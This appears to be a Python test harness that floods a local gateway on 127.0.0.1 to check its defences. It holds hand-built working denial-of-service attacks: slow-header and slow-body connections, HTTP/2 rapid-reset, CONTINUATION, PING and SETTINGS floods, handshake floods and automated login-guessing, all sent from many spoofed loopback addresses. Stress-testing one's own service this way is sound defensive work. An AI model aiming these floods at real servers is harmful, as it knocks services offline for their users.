"""One flood.

    attack.py NAME PORT SECONDS SHARE      prints how many connections it made, and what it did with them;
                                           SHARE is the part of the flood's full size

All floods but `one-network` come from thousands of addresses, so that no share of a network holds them
up. Frames are written by hand: a library would refuse to send most of this.
"""

import asyncio
import json
import os
import random
import re
import socket
import ssl
import sys
import time
import urllib.parse
from collections import Counter

SLOW = 2000
SWARM = 40
COUNTS: Counter[str] = Counter()

DATA, HEADERS, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GET, POST = b"\x82", b"\x83"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def head(method: bytes = GET) -> bytes:
    return method + b"\x87\x84\x01\x09localhost"


def many(port: int):
    place = f"127.{random.randint(1, 250)}.{random.randint(0, 255)}.{random.randint(1, 254)}"
    return port, (place, 0)


def one(port: int):
    return port, ("127.0.0.1", 0)


def context(*protocols: str) -> ssl.SSLContext:
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    tls.check_hostname = False
    tls.verify_mode = ssl.CERT_NONE
    tls.set_alpn_protocols(protocols or ["http/1.1"])
    return tls


async def connect(at, tls: ssl.SSLContext, window: int | None = None, name: str = "localhost"):
    """`window` is what the kernel takes before it stops the other side."""
    port, place = at
    COUNTS["tried"] += 1
    plain = socket.socket()
    plain.setblocking(False)
    if window:
        plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window)
    plain.bind(place)
    await asyncio.get_running_loop().sock_connect(plain, ("127.0.0.1", port))
    stream = await asyncio.open_connection(
        sock=plain, ssl=tls, server_hostname=name, limit=window or 65536
    )
    COUNTS["connected"] += 1
    return stream


def again(flood):
    """Does it over and over; what the gateway closes is opened anew."""

    async def forever(port: int) -> None:
        while True:
            try:
                await flood(port)
            except (OSError, ssl.SSLError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
                COUNTS["closed"] += 1
                await asyncio.sleep(0.05)

    return forever


async def drip(stream, what: bytes) -> None:
    reader, writer = stream
    while not reader.at_eof():
        writer.write(what)
        await writer.drain()
        await asyncio.sleep(2)
    raise ConnectionError


@again
async def heads(port: int) -> None:
    stream = await connect(many(port), context())
    stream[1].write(b"GET / HTTP/1.1\r\nHost: localhost\r\nX: ")
    await drip(stream, b"x")


@again
async def bodies(port: int) -> None:
    stream = await connect(many(port), context())
    stream[1].write(b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n")
    await drip(stream, b"x")


@again
async def reading(port: int) -> None:
    _, writer = await connect(many(port), context(), window=2048, name="big.localhost")
    writer.transport.pause_reading()
    writer.write(b"GET /big HTTP/1.1\r\nHost: big.localhost\r\n\r\n")
    while not writer.transport.is_closing():
        await asyncio.sleep(1)
        writer.write(b" ")
    raise ConnectionError


def frames(begin: bytes, piece):
    """HTTP/2 connections that write as fast as they can."""

    @again
    async def flood(port: int) -> None:
        reader, writer = await connect(many(port), context("h2"))
        writer.write(PREFACE + frame(SETTINGS, 0, 0) + begin)
        number = 0
        while True:
            writer.write(b"".join(piece(number + step) for step in range(50)))
            number += 50
            COUNTS["frames"] += 50
            await writer.drain()
            # What comes back is taken and thrown away.
            reader._buffer.clear()
            reader._maybe_resume_transport()
            if reader.at_eof():
                raise ConnectionError
            await asyncio.sleep(0)

    return flood


def stream_of(number: int) -> int:
    return (number * 2 + 1) % (1 << 31)


def reset(number: int) -> bytes:
    stream = stream_of(number)
    return frame(HEADERS, 5, stream, head()) + frame(RST, 0, stream, (8).to_bytes(4, "big"))


def made_reset(number: int) -> bytes:
    stream = stream_of(number)
    return frame(HEADERS, 5, stream, head()) + frame(WINDOW, 0, stream, b"\x7f\xff\xff\xff")


@again
async def handshakes(port: int) -> None:
    _, writer = await connect(many(port), context("h2"))
    writer.transport.abort()


@again
async def one_network(port: int) -> None:
    _, writer = await connect(one(port), context())
    await asyncio.sleep(1)
    writer.transport.abort()


async def exchange(stream, request: bytes) -> tuple[bytes, bytes]:
    reader, writer = stream
    writer.write(request)
    response = await reader.readuntil(b"\r\n\r\n")
    COUNTS[response[9:12].decode()] += 1
    found = re.search(rb"content-length: (\d+)", response, re.IGNORECASE)
    return response, await reader.readexactly(int(found.group(1)) if found else 0)


@again
async def logins(port: int) -> None:
    stream = await connect(many(port), context())
    page = b"GET /.doorward/login HTTP/1.1\r\nHost: localhost\r\nAccept: text/html\r\n\r\n"
    response, body = await exchange(stream, page)
    cookies = b"; ".join(re.findall(rb"set-cookie: ([^;]*)", response, re.IGNORECASE))
    csrf = re.search(rb'name="csrf"[^>]*value="([^"]*)"', body).group(1).decode()
    for number in range(5):
        form = {"username": f"user{random.random()}", "password": f"guess {number}", "csrf": csrf}
        text = urllib.parse.urlencode(form).encode()
        await exchange(
            stream,
            b"POST /.doorward/login HTTP/1.1\r\nHost: localhost:%d\r\n"
            b"Origin: https://localhost:%d\r\nContent-Type: application/x-www-form-urlencoded\r\n"
            b"Cookie: %s\r\nContent-Length: %d\r\n\r\n%s" % (port, port, cookies, len(text), text),
        )
    stream[1].transport.abort()


@again
async def junk(port: int) -> None:
    stream = await connect(many(port), context())
    while True:
        cookie = "dw1_" + os.urandom(58).hex()[:104]
        request = f"GET / HTTP/1.1\r\nHost: localhost\r\nCookie: __Host-doorward={cookie}\r\n\r\n"
        await exchange(stream, request.encode())


FIELD = b"\x00\x01x\x64" + b"y" * 100
FLOODS = {
    "slow-heads": (heads, SLOW),
    "slow-bodies": (bodies, SLOW),
    "slow-reading": (reading, SLOW),
    "rapid-reset": (frames(b"", reset), SWARM),
    "made-you-reset": (frames(b"", made_reset), SWARM),
    "continuation": (
        frames(frame(HEADERS, 1, 1, head()), lambda _: frame(CONTINUATION, 0, 1, FIELD)),
        SWARM,
    ),
    "empty-data": (frames(frame(HEADERS, 4, 1, head(POST)), lambda _: frame(DATA, 0, 1)), SWARM),
    "pings": (frames(b"", lambda _: frame(PING, 0, 0, bytes(8))), SWARM),
    "settings": (frames(b"", lambda _: frame(SETTINGS, 0, 0, b"\0\3\0\0\0\x64")), SWARM),
    "handshakes": (handshakes, SWARM),
    "logins": (logins, SWARM),
    "junk-cookies": (junk, SWARM),
    "one-network": (one_network, SLOW),
}


async def main() -> None:
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    flood, size = FLOODS[name]
    # The gateway and its users have the cores first, as they would if this were another machine.
    os.nice(10)
    tasks = []
    began = time.monotonic()
    for number in range(max(1, int(size * float(sys.argv[4])))):
        tasks.append(asyncio.create_task(flood(port)))
        if number % 50 == 0:
            await asyncio.sleep(0.01)
    await asyncio.sleep(max(0.0, began + seconds - time.monotonic()))
    print(json.dumps(COUNTS), flush=True)
    # The connections end with the process, all at once.
    os._exit(0)


if __name__ == "__main__":
    asyncio.run(main())
